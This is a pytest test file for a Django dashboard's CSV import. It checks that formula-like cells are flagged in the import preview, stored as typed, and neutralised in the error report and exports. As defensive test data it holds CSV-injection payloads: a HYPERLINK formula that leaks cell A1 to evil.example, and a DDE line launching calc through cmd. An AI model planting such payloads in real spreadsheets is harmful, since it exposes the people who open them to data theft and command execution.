"""Formula-like cells (``=`` ``+`` ``-`` ``@``): flagged in the import preview, kept as typed in the
database, neutralised in the error report; the shared rule lives in ``dashboard.csvsafe``."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from dashboard import csvsafe
from dashboard.models import ImportJob
from dashboard.reports import exports
from tests.factories import UserFactory

from .test_import_admin import csv_file, post_mapping, staff, upload, url

pytestmark = pytest.mark.django_db
User = get_user_model()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def operator_client(client):
    client.force_login(staff("otto", "Operators"))
    return client


def csv_text(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def error_report_rows(client, job: ImportJob) -> list[list[str]]:
    response = client.get(url("error_report", job.pk))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_the_error_report_neutralises_formula_cells(operator_client):
    upload(operator_client, csv_text([
        ["Email", "Given name", "=cmd|' /C calc'!A0"],
        ["not-an-email", HYPERLINK, "@SUM(1+1)"],
        ["+x@", "-2+3", "ok"],
        ["ada@example.com", "Ada", "fine"],
    ]))
    job = ImportJob.objects.get()
    post_mapping(operator_client, job)

    rows = error_report_rows(operator_client, job)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if csvsafe.looks_like_formula(cell)], cells
    assert rows[0][2:] == ["Email", "Given name", "'=cmd|' /C calc'!A0"]
    assert rows[1][0] == "2" and rows[1][2:] == ["not-an-email", "'" + HYPERLINK, "'@SUM(1+1)"]
    assert rows[2][2:] == ["'+x@", "'-2+3", "ok"]


def test_the_preview_flags_formula_cells_by_row_and_column(operator_client):
    UserFactory(username="bob", email="bob@example.com", first_name="Bob", last_name="Old")
    upload(operator_client, csv_text([
        ["E-mail", "Given name", "Family name", "Notes"],
        ["mal@example.com", HYPERLINK, "Lovelace", "=not imported"],  # flagged: a new user's first name
        ["minus@example.com", "Bob", "-Smith", ""],  # flagged: a real name that starts with "-"
        ["bob@example.com", "Bob", "+New", ""],  # flagged: an update that changes the last name
        ["plain@example.com", "Plain", "Person", "@not imported either"],  # unmapped column: not flagged
        ["=bad", "Eve", "", ""],  # invalid row: in the error report, not imported
    ]))
    job = ImportJob.objects.get()
    post_mapping(operator_client, job)
    html = operator_client.get(url("preview", job.pk)).content.decode()

    assert 'data-testid="count-formulas">3<' in html
    assert 'data-testid="formula-rows"' in html and 'data-testid="confirm-formulas"' in html
    assert html.count('data-testid="formula-row"') == 3
    for line in (2, 3, 4):
        assert f'data-testid="formula-row" data-line="{line}"' in html
    for line in (5, 6):
        assert f'data-testid="formula-row" data-line="{line}"' not in html
    assert "Column “Given name” (First name) starts like a formula: =HYPERLINK(" in html
    assert "Column “Family name” (Last name) starts like a formula: -Smith" in html
    assert "Column “Family name” (Last name) starts like a formula: +New" in html
    assert "&quot;http://evil.example/?leak=&quot;&amp;A1" in html  # shown escaped, as text


def test_flagged_values_are_imported_as_typed(operator_client):
    """The database is not a spreadsheet: names like "-Smith" are real. Exports neutralise."""
    upload(operator_client, csv_text([["email", "first_name", "last_name"], ["mal@example.com", HYPERLINK, "-Smith"]]))
    job = ImportJob.objects.get()
    post_mapping(operator_client, job)
    operator_client.post(url("confirm", job.pk), {"mode": "valid_rows"})
    user = User.objects.get(email="mal@example.com")
    assert (user.first_name, user.last_name) == (HYPERLINK, "-Smith")


def test_the_error_report_imports_back_as_typed(operator_client):
    """Fix the report's rows, drop its first two columns, import it: the "'" it added is gone again."""
    upload(operator_client, csv_text([["email", "first_name", "last_name"], ["bad-address", "Bob", "-Smith"]]))
    job = ImportJob.objects.get()
    post_mapping(operator_client, job)
    rows = error_report_rows(operator_client, job)
    assert rows[1][2:] == ["bad-address", "Bob", "'-Smith"]

    fixed = [row[2:] for row in rows]
    fixed[1][0] = "bob@example.com"
    operator_client.post(url("upload"), {"file": csv_file(csv_text(fixed), "fixed.csv"), "mode": "valid_rows"})
    again = ImportJob.objects.get(original_name="fixed.csv")
    post_mapping(operator_client, again)
    html = operator_client.get(url("preview", again.pk)).content.decode()
    assert "starts like a formula: -Smith" in html  # seen again as what it is
    operator_client.post(url("confirm", again.pk), {"mode": "valid_rows"})
    assert User.objects.get(email="bob@example.com").last_name == "-Smith"


def test_exports_and_the_import_report_share_one_rule():
    assert exports.neutralise is csvsafe.neutralise and exports.looks_like_formula is csvsafe.looks_like_formula
    assert [csvsafe.neutralise(text) for text in ("=1", "+1", "-1", "@a", "\tx", "\rx", "  =x", "a=b", "")] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "'  =x", "a=b", ""]
